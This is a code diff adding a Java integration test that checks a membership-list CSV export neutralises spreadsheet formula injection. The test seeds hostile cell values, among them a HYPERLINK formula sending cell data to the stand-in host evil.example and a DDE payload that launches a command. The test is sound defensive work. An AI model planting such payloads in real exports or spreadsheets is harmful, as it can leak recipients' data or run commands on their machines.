@@ -240,6 +240,61 @@ class ListRequestExportIntegrationTest {
     }
 
     @Test
+    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndTheDatabaseKeepsTheValue() throws Exception {
+        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        List<List<String>> hostile = List.of(
+                List.of(link, "Smith"), List.of("+1+cmd|' /C calc'!A0", "-2+3"), List.of("@SUM(1+1)", "\tTab"),
+                List.of("Ann", "\rCR"), List.of("Plain", "Lee-Jones"));
+        UnionFixture.in(superuser).local("L086", "R3", "STATE_AGENCIES");
+        superuser.useHandle(h -> {
+            for (int i = 0; i < hostile.size(); i++) {
+                h.createUpdate("""
+                        INSERT INTO members (member_id, first_name, last_name, local_id, region, employer_group,
+                                             membership_status, home_email)
+                        VALUES (:id, :first, :last, 'L086', 'R3', 'STATE_AGENCIES', 'MEMBER', :email)""")
+                        .bind("id", "F" + i).bind("first", hostile.get(i).get(0)).bind("last", hostile.get(i).get(1))
+                        .bind("email", "f" + i + "@example.org").execute();
+            }
+        });
+        TestPeople.create(api, ADMIN, "president86", "Test president86", "president-86-password", "LOCAL_PRESIDENT", "L086");
+        String president86 = basic("president86", "president-86-password");
+        TestPeople.acknowledgeEverything(api, APP.<GatewayApplication>getApplication().services().acknowledgements(),
+                president86, "Test president86");
+        Map<String, Object> body = request("L086");
+        body.put("fields", List.of("first_name", "last_name", "home_email"));
+        HttpResponse<String> asked = api.postJson("/api/v1/list-requests", president86, body);
+        assertThat(asked.statusCode()).as(asked.body()).isEqualTo(201);
+        JsonNode created = json(api.postJson("/api/v1/list-requests/" + json(asked).path("id").asLong() + "/exports",
+                president86, Map.of("encryption", "PASSPHRASE")));
+        assertThat(created.path("rows").asLong()).isEqualTo(hostile.size());
+
+        GnuPg.Result decrypted = decryptWithPassphrase(
+                api.getBytes("/api/v1/exports/" + created.path("id").asText(), president86).body(),
+                created.path("passphrase").asText());
+        assertThat(decrypted.exitCode()).as(decrypted.stderr()).isZero();
+        String csv = decrypted.stdout();
+        Map<String, List<String>> byEmail = new LinkedHashMap<>();
+        try (org.apache.commons.csv.CSVParser parser = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader()
+                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv))) {
+            parser.forEach(r -> byEmail.put(r.get("home_email"), List.of(r.get("first_name"), r.get("last_name"))));
+        }
+        assertThat(byEmail.get("f0@example.org")).containsExactly("'" + link, "Smith");
+        assertThat(byEmail.get("f1@example.org")).containsExactly("'+1+cmd|' /C calc'!A0", "'-2+3");
+        assertThat(byEmail.get("f2@example.org")).containsExactly("'@SUM(1+1)", "'\tTab");
+        assertThat(byEmail.get("f3@example.org")).containsExactly("Ann", "'\rCR");
+        assertThat(byEmail.get("f4@example.org")).containsExactly("Plain", "Lee-Jones");
+        assertThat(csv).as("each neutralized cell is quoted").contains("\"'" + link.replace("\"", "\"\"") + "\",Smith,")
+                .contains("\"'+1+cmd|' /C calc'!A0\",\"'-2+3\",").contains("\"'@SUM(1+1)\",\"'\tTab\",");
+        // The seeds planted among the rows pass the same rule and still trace to this export.
+        assertThat(byEmail.keySet().stream().filter(e -> e.endsWith("@seeds.example.org"))).hasSize(3);
+
+        List<String> stored = superuser.withHandle(h -> h.createQuery(
+                "SELECT first_name FROM members WHERE local_id = 'L086' ORDER BY member_id").mapTo(String.class).list());
+        assertThat(stored).as("the database keeps the values as given")
+                .containsExactly(link, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "Ann", "Plain");
+    }
+
+    @Test
     void aPassphraseExportDecryptsWithThePassphraseShownOnceAndTheFourthDownloadIsGone() {
         long id = approvedRequest();
         JsonNode created = export(id, "PASSPHRASE");
